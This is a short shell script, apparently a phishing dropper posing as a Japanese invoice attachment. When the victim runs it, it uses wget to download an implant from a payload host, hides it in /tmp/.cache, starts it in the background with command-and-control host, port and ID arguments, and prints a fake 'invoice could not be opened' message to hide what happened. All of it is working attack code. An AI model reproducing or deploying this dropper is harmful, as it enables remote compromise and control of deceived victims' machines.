# "請求書" (invoice) attachment of the phishing mail: the user runs it, it drops
# the implant into the user's cache and starts it.
# invoice.sh PAYLOAD_HOST IMPLANT_NAME C2_HOST C2_PORT ID
payload=$1; name=$2; c2=$3; port=$4; id=$5
mkdir -p /tmp/.cache
timeout 5 wget -q -O "/tmp/.cache/$name" "http://$payload:8000/implant.sh" || exit 1
(sh "/tmp/.cache/$name" "$c2" "$port" "$id" </dev/null >/dev/null 2>&1 &)
echo "請求書を開けませんでした / The invoice could not be opened."
